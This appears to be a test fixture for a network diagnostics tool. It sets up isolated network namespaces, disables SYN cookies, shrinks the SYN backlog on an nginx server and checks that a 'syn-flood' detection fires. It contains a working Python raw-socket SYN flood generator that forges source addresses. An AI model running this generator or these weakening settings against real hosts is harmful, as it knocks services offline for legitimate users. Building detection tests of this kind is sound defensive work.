#: title = "a SYN flood from thousands of forged addresses meets tcp_syncookies=0 and a short SYN backlog: real clients get no answer"
#: kind = "K4"
#: needs = ["nginx", "curl", "python3"]
#: seconds = 16
#: look_from = "s"
#: also = ["listener-drops-since-open", "sysctl-hazard", "syn-queue-full"]
#: [[expect]]
#: rule = ["syn-flood"]
#: listener = "10.77.0.2:80"
#: severity_at_least = "warning"
pair; netns "${N}r"; R=${N}r
ip link add "w${N}s" netns "$S" type veth peer name "v${N}r" netns "$R"
ip -n "$S" addr add 192.0.2.2/24 dev "w${N}s"; ip -n "$R" addr add 192.0.2.1/24 dev "v${N}r"
ip -n "$S" link set "w${N}s" up; ip -n "$R" link set "v${N}r" up
ip -n "$S" route add default via 192.0.2.1; ip -n "$R" route add 10.77.0.0/24 via 192.0.2.2
ip netns exec "$R" nft "add table inet f; add chain inet f i { type filter hook prerouting priority -300; }; add rule inet f i ip daddr 198.18.0.0/15 drop"
for x in tcp_syncookies=0 tcp_max_syn_backlog=128 tcp_no_metrics_save=1; do ip netns exec "$S" sysctl -qw "net.ipv4.$x"; done
cat >"$W/n.conf" <<A
daemon off; worker_processes 1; error_log $W/e; pid $W/pid; events { worker_connections 512; }
http { access_log off; server { listen 10.77.0.2:80; location / { return 200 "ok"; } } }
A
bg $S nginx -c "$W/n.conf"
listens $S 80
bg $R python3 -c '
import random,socket,struct,time
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
d=socket.inet_aton("10.77.0.2")
def ck(b):
    t=sum(struct.unpack("!%dH"%(len(b)//2),b)); t=(t>>16)+(t&65535); return ~(t+(t>>16))&65535
while 1:
    for _ in range(15):
        a=struct.pack("!I",0xC6120000+random.randrange(1,1<<17))
        t=struct.pack("!HHIIBBHHHBBH",random.randrange(1024,65535),80,random.getrandbits(32),0,0x60,2,64240,0,0,2,4,1460)
        c=ck(a+d+struct.pack("!BBH",0,6,len(t))+t); t=t[:16]+struct.pack("!H",c)+t[18:]
        s.sendto(struct.pack("!BBHHHBBH4s4s",0x45,0,20+len(t),0,0,64,6,0,a,d)+t,("10.77.0.2",0))
    time.sleep(0.05)'
sleep 1
for i in 1 2 3 4; do bg $C bash -c 'while :; do curl -s -o /dev/null --connect-timeout 8 http://10.77.0.2/; sleep 0.5; done'; done
sleep 9
ready
